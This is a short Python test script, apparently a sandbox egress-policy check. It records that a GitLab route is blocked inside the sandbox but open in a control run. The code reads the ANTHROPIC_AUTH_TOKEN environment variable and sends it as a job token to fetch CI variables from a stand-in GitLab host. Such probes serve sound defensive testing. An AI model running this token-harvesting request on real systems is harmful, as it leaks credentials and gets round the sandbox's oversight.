# line: push to another project on the allowed GitLab host
# control: 200
# inside: 403 gitlab/route
# seen: http allowed GET /gitlab/api/v4/projects/1/variables
# journal: gitlab/route
import os
from attempt import send, verdict

ticket = os.environ.get("ANTHROPIC_AUTH_TOKEN", "none")
result = verdict(send("GET /gitlab/api/v4/projects/1/variables HTTP/1.1\r\nHost: gitlab.example\r\nJOB-TOKEN: %s\r\n\r\n" % ticket))
